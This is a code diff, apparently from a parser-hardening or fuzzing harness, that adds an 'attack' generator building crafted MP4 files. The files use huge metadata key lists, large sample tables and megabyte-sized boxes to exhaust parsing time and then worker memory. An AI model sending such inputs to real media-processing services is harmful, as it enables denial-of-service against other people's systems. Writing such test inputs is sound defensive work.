@@ -507,3 +507,20 @@ def bits_flood(d):
                            b"\x47\x1f\xff\x10", b"\0\0\1\xba" + bytes(10), b"\0\0\1\x67", b"OggS", b"fLaC\0\0\0\x22",
                            b"\x0b\x77", b"\x3c\x5c\x60\x06", b"#!AMR\n<"))
     return unit * (n // len(unit))
+
+
+@attack("A9_time_then_memory", "mp4")
+def time_then_memory(d):
+    """Seconds of header, and then more memory than a worker has: whoever tries twice pays twice."""
+    n, samples = d.size("keys", 100, 14000), d.size("samples", 100, 5000)
+    names = keys_of(d, n, 250, True)
+    keys = full(b"keys", be32(n), *[be32(8 + len(k)) + b"mdta" + k for k in names])
+    value = be32(17) + b"data" + be32(1) + be32(0) + b"v"
+    ilst = box(b"ilst", *[be32(8 + len(value)) + be32(i + 1) + value for i in range(n)])
+    meta = box(b"meta", full(b"hdlr", be32(0), b"mdta", bytes(13)), keys, ilst)
+    entry = visual_entry(b"mp4v", 64, 64, box(b"glbl", bytes(1000000)))
+    stsc = [be32(i + 1) + be32(1) + be32(1 + (i & 1)) for i in range(samples)]
+    tables = (full(b"stsd", be32(2), entry, entry) + full(b"stts", be32(1), be32(samples), be32(1000))
+              + full(b"stsc", be32(samples), *stsc) + full(b"stsz", be32(4), be32(samples))
+              + full(b"stco", be32(samples), be32(len(FTYP) + 8) * samples))
+    return mp4_with(meta, draw=d, tracks=[Track(b"", (4, samples), (0, samples), tables=tables)])
